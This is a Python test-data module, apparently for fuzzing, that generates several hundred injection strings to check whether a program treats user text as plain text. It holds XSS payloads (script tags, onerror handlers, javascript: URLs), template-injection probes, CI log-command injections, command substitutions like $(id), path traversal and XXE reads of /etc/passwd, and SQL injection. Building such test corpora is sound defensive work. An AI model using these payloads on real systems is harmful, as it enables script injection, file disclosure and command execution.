"""Five hundred texts that would do harm where a program takes them for more than a text."""

# ruff: noqa: E501 - a text is told apart more easily on one line

from __future__ import annotations

from itertools import product

MARKER = "alert(7731)"
"""What every script among them would run."""
_OPENINGS = (
    "", "x ", '"', "'", "`", "</title>", "</script>", "</style>", "</textarea>", "</template>", "</svg>", "</td></tr></table>",
    "<!--", "-->", "]]>", "<![CDATA[", "&lt;", "&quot;>", "\\", '\\"', "](", "[a](", "![a](", "*/", "//", "{{", "{%", "{#", "${",
    "<%", "#{", "$(", "|", "||", "~~~", "```", "::", "%0A::", "?>", "</summary>", "</details>", "&#x3c;", "\\u003c", "%3C",
)  # fmt: skip
_LOADS = (
    f"<script>{MARKER}</script>",
    f"<img src=x onerror={MARKER}>",
    f'<a href="javascript:{MARKER}">go</a>',
    f"[go](javascript:{MARKER})",
    f"<svg/onload={MARKER}>",
    f"{{{{ {MARKER} }}}}",
    f"<iframe srcdoc='<script>{MARKER}</script>'></iframe>",
    f"<style>*{{background:url('javascript:{MARKER}')}}</style>",
    f'<div style="width:expression({MARKER})" onmouseover="{MARKER}">',
    f"${{{MARKER}}}",
)
_OTHERS = (
    f"<sCrIpT/x>{MARKER}</ScRiPt >", f"<<script>{MARKER}//<</script>", f"<script\t>{MARKER}</script>".replace("\t", " "),
    f"<body onload={MARKER}>", f"<math><mi xlink:href='data:x,<script>{MARKER}</script>'>", f"<object data='javascript:{MARKER}'>",
    f"<embed src=javascript:{MARKER}>", f"<base href=javascript:{MARKER}//>", f"<link rel=stylesheet href='data:,{MARKER}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARKER}'>", f"<form action=javascript:{MARKER}><button>x</button></form>",
    f"<input autofocus onfocus={MARKER}>", f"<video><source onerror={MARKER}></video>", f"<details open ontoggle={MARKER}>",
    f"<marquee onstart={MARKER}>", f"<noscript><p title='</noscript><img src=x onerror={MARKER}>'>",
    f"[go](data:text/html,<script>{MARKER}</script>)", f"![x](x 'onerror={MARKER}')", f"[x]: javascript:{MARKER}",
    f"<javascript:{MARKER}>", f"[x](java&#115;cript:{MARKER})", "{% include '/etc/passwd' %}", "{% for x in config %}{{ x }}{% endfor %}",
    "{{ config.__class__.__mro__ }}", "{{ ''.__class__ }}", "{{ measure_table('bins-on-time') }}", "{{ now() }}", "{# hidden #}",
    "::error file=x,line=1::you were here", "::set-output name=x::y", "::stop-commands::x", "%0D%0A::add-mask::x",
    "##[error]x", "section_start:0:x[collapsed=true]", "#{7*7}", "<%= 7*7 %>", "${{ secrets.TOKEN }}", "$CI_JOB_TOKEN", "`id`",
    "$(id)", "../../../../etc/passwd", "file:///etc/passwd", "%s%s%n%x", "{0.__class__}", "{}", "%(x)s", "' OR 1=1 --",
    "]]]]><![CDATA[>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "&amp;lt;script&amp;gt;", "&nbsp;&copy;&#0;",
    "<?xml version='1.0'?>", "<?php echo 1 ?>", "# A heading", "* a list", "1. a list", "> a quotation", "| a | table |", "***", "___",
    "*[HTML]: x", "[^1]: a note[^1]", "--8<-- 'secret'", "!!! note", "??? note", ":smile:", "$x^2$", "\\[x\\]", "{: onclick=x }",
    "<p markdown='1'>", "Word" * 300, "é" * 400, "👩‍💻🏴🇬🇧😀".replace("\u200d", ""), "中文字符 العربية עברית ไทย", "ﬀ ﬁ ½ ① K Å",
    "“quotes” ‘quotes’ «quotes» „quotes‟", "\u0301 combining first", "Z\u0351\u0352\u0353algo", "NULL", "None", "nan", "TRUE", "1e999",
    "00123", "1/2/2023", "Sunday", "__proto__", "constructor", "toString", "</SCRIPT\u00a0>", "\u00a0inside\u00a0both", "a\u2003b",
)  # fmt: skip


def texts() -> list[str]:
    """Return every text, one line each and none that a package may not hold for another reason."""
    joined = [f"{opening}{load}" for opening, load in product(_OPENINGS, _LOADS)]
    found = [text for text in dict.fromkeys([*joined, *_OTHERS]) if text[:1] not in "|=+-@"]
    return [text for text in found if text == text.strip()]
